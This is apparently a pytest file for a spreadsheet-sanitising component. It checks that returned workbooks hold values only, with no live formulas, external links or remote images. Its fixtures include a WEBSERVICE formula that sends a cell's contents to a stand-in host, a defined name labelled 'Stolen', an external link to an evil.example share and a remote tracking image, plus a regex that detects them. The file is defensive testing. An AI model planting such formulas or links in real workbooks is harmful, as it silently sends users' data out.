"""A result calculates and fetches nothing when it is opened, whatever the uploaded workbook did."""

from __future__ import annotations

import re
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from tests.adapters.workbook.packages import HEADER, PEOPLE, inline, inline_rows, parts, row, sheet, unzipped, zipped
from tests.adapters.workbook.results import SUMMARY, result_of, said_in, sheets_of

_FETCH = 'WEBSERVICE("https://contoso.example/?"&B2)'


def _formula(text: str, value: str = "") -> str:
    stored = f"<v>{value}</v>" if value else ""
    return f'<c r="@" t="str"><f>{text.replace("&", "&amp;")}</f>{stored}</c>'


def _made(*, tail: str = "", after: str = "") -> dict[str, str | bytes]:
    rows = inline_rows([(*HEADER, "note")]) + row(2, [*map(inline, PEOPLE[0]), _formula(_FETCH, "seen")])
    other = sheet(row(1, [_formula("[1]Sheet1!A1", "kept"), _formula("NOW()")]))
    return parts(sheet(rows, after=after), other, names=("People", "Other"), tail=tail)


def _acts(data: bytes) -> list[str]:
    """Names of parts in which something is calculated or fetched."""
    found = unzipped(data)
    return [
        name
        for name, content in found.items()
        if re.search(rb"WEBSERVICE|calculatedColumnFormula|\[1\]|connection", content)
        or (re.search(rb"<f[ />]", content) and "/charts/" not in name)  # there it names the cells that are shown
        or "external" in name.lower()
        or "pivot" in name.lower()
        or (name.endswith(".rels") and b"External" in content)
    ]


@pytest.mark.parametrize("full_rows", [20_000, 0])
def test_formulas_come_back_as_values(full_rows: int) -> None:
    """On every sheet that comes back, in columns that are used and in others; the summary says so."""
    result = result_of(zipped(_made()), full_rows=full_rows)

    assert [] == _acts(result)
    pages = sheets_of(result)
    assert "seen" == pages["People"]["D2"].value
    summary = said_in(pages[SUMMARY])
    assert ("Formulas are replaced by the values" in summary) or ("holds only values" in summary)
    if full_rows:
        assert ("kept", None) == (pages["Other"]["A1"].value, pages["Other"]["B1"].value)


def test_links_to_other_workbooks_do_not_come_back() -> None:
    made = _made(tail='<externalReferences><externalReference r:id="rId9"/></externalReferences>')
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
    relationships = "xl/_rels/workbook.xml.rels"
    made[relationships] = str(made[relationships]).replace(
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{link}" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    made["xl/externalLinks/externalLink1.xml"] = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    made["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{link}Path" Target="//evil.example/share/book.xlsx" TargetMode="External"/></Relationships>'
    )
    result = result_of(zipped(made))

    assert [] == _acts(result)
    summary = said_in(sheets_of(result)[SUMMARY])
    assert "links to other workbooks" in summary


def _book() -> tuple[Workbook, Worksheet]:
    book = Workbook()
    page = book.worksheets[0]
    for texts in (HEADER, *PEOPLE):
        page.append(texts)
    return book, page


def test_rules_and_names_that_look_at_cells_alone_stay() -> None:
    """Those that would fetch or move go; a list of countries and a highlighted blank stay."""
    book, page = _book()
    book.defined_names["Countries"] = DefinedName("Countries", attr_text="Sheet!$F$1:$F$3")
    book.defined_names["Stolen"] = DefinedName("Stolen", attr_text=_FETCH)
    page.conditional_formatting.add("B2:B9", Rule(type="expression", formula=['$B2=""']))
    page.conditional_formatting.add("C2:C9", Rule(type="expression", formula=[f"LEN({_FETCH})>0"]))
    for formula in ("=Countries", '"US,AU,FR"', "=Stolen", 'INDIRECT("x")'):
        page.add_data_validation(DataValidation(type="list", formula1=formula, sqref="C2:C9"))
    saved = BytesIO()
    book.save(saved)

    after = load_workbook(BytesIO(result_of(saved.getvalue())))
    assert ["Countries"] == list(after.defined_names)
    assert ["B2:B9"] == [str(one.sqref) for one in after["Sheet"].conditional_formatting]
    assert ["=Countries", '"US,AU,FR"'] == [one.formula1 for one in after["Sheet"].data_validations.dataValidation]


def test_a_background_picture_from_elsewhere_does_not_come_back() -> None:
    made = _made(after='<picture r:id="rId1"/>')
    made["xl/worksheets/_rels/sheet1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="https://contoso.example/seen.png" TargetMode="External"/></Relationships>'
    )
    assert [] == _acts(result_of(zipped(made)))
